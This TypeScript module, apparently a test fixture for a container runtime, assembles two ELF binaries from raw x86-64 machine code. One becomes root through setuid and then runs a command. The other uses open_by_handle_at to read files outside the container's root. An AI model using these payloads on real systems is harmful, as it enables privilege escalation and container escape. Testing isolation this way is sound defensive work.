import { bytesOfListing } from '../rootfs/listing.ts';
import { staticElf } from '../rootfs/static-elf.ts';

// Sets group and user id 0 and becomes the command in its arguments: what a careless setuid program of an image amounts to.
const becomeRoot = `
  48 89 E7                        ; 0: mov rdi,rsp
  48 83 E4 F0                     ; 3: and rsp,0xfffffffffffffff0
  EB 00                           ; 7: jmp 9
  45 31 C0                        ; 9: xor r8d,r8d
  49 89 F9                        ; c: mov r9,rdi
  B8 6A 00 00 00                  ; f: mov eax,0x6a
  4C 89 C7                        ; 14: mov rdi,r8
  4C 89 C6                        ; 17: mov rsi,r8
  4C 89 C2                        ; 1a: mov rdx,r8
  0F 05                           ; 1d: syscall
  B8 69 00 00 00                  ; 1f: mov eax,0x69
  0F 05                           ; 24: syscall
  49 8B 01                        ; 26: mov rax,QWORD PTR [r9]
  49 8B 79 10                     ; 29: mov rdi,QWORD PTR [r9+0x10]
  49 8D 71 10                     ; 2d: lea rsi,[r9+0x10]
  49 8D 54 C1 10                  ; 31: lea rdx,[r9+rax*8+0x10]
  B8 3B 00 00 00                  ; 36: mov eax,0x3b
  0F 05                           ; 3b: syscall
  B8 E7 00 00 00                  ; 3d: mov eax,0xe7
  BF 7E 00 00 00                  ; 42: mov edi,0x7e
  4C 89 C6                        ; 47: mov rsi,r8
  4C 89 C2                        ; 4a: mov rdx,r8
  0F 05                           ; 4d: syscall
  EB FE                           ; 4f: jmp 4f
`;

/**
 * open_by_handle_at(2) takes a file by its number, past every folder's permissions and past the container's own root:
 * number 2 is the root folder of an ext4 file system. Arguments: any path on that file system; a path below its root.
 */
const openByHandle = `
  48 89 E7                        ; 0: mov rdi,rsp
  48 83 E4 F0                     ; 3: and rsp,0xfffffffffffffff0
  EB 00                           ; 7: jmp 9
  53                              ; 9: push rbx
  B8 01 00 00 20                  ; a: mov eax,0x20000001
  31 DB                           ; f: xor ebx,ebx
  49 89 F9                        ; 11: mov r9,rdi
  48 C1 E0 03                     ; 14: shl rax,0x3
  45 31 D2                        ; 18: xor r10d,r10d
  48 89 DE                        ; 1b: mov rsi,rbx
  48 89 DA                        ; 1e: mov rdx,rbx
  48 81 EC 98 00 00 00            ; 21: sub rsp,0x98
  48 8B 7F 10                     ; 28: mov rdi,QWORD PTR [rdi+0x10]
  48 89 44 24 88                  ; 2c: mov QWORD PTR [rsp-0x78],rax
  B8 02 00 00 00                  ; 31: mov eax,0x2
  48 C7 44 24 90 02 00 00 00      ; 36: mov QWORD PTR [rsp-0x70],0x2
  0F 05                           ; 3f: syscall
  49 89 C0                        ; 41: mov r8,rax
  48 85 C0                        ; 44: test rax,rax
  78 5F                           ; 47: js 400120
  48 8D 74 24 88                  ; 49: lea rsi,[rsp-0x78]
  B8 30 01 00 00                  ; 4e: mov eax,0x130
  BA 00 00 01 00                  ; 53: mov edx,0x10000
  4C 89 C7                        ; 58: mov rdi,r8
  0F 05                           ; 5b: syscall
  49 89 C0                        ; 5d: mov r8,rax
  48 85 C0                        ; 60: test rax,rax
  78 43                           ; 63: js 400120
  49 8B 71 18                     ; 65: mov rsi,QWORD PTR [r9+0x18]
  B8 01 01 00 00                  ; 69: mov eax,0x101
  4C 89 C7                        ; 6e: mov rdi,r8
  48 89 DA                        ; 71: mov rdx,rbx
  0F 05                           ; 74: syscall
  49 89 C0                        ; 76: mov r8,rax
  48 85 C0                        ; 79: test rax,rax
  78 2A                           ; 7c: js 400120
  48 8D 74 24 98                  ; 7e: lea rsi,[rsp-0x68]
  BA 00 01 00 00                  ; 83: mov edx,0x100
  48 89 D8                        ; 88: mov rax,rbx
  4C 89 C7                        ; 8b: mov rdi,r8
  0F 05                           ; 8e: syscall
  49 89 C0                        ; 90: mov r8,rax
  48 85 C0                        ; 93: test rax,rax
  78 10                           ; 96: js 400120
  B8 01 00 00 00                  ; 98: mov eax,0x1
  4C 89 C2                        ; 9d: mov rdx,r8
  48 89 C7                        ; a0: mov rdi,rax
  0F 05                           ; a3: syscall
  45 31 C0                        ; a5: xor r8d,r8d
  4C 89 C7                        ; a8: mov rdi,r8
  31 D2                           ; ab: xor edx,edx
  45 31 D2                        ; ad: xor r10d,r10d
  B8 E7 00 00 00                  ; b0: mov eax,0xe7
  48 F7 DF                        ; b5: neg rdi
  48 89 D6                        ; b8: mov rsi,rdx
  0F 05                           ; bb: syscall
  EB FE                           ; bd: jmp 400135
`;

/** Runs its arguments as user 0, if it is owned by root and marked setuid; x86-64. */
export function becomeRootElf(): Uint8Array<ArrayBuffer> {
  return staticElf('x86-64', bytesOfListing(becomeRoot));
}

/** Prints a file of the file system that a path lies on, found from that file system's root folder by number; x86-64. */
export function openByHandleElf(): Uint8Array<ArrayBuffer> {
  return staticElf('x86-64', bytesOfListing(openByHandle));
}
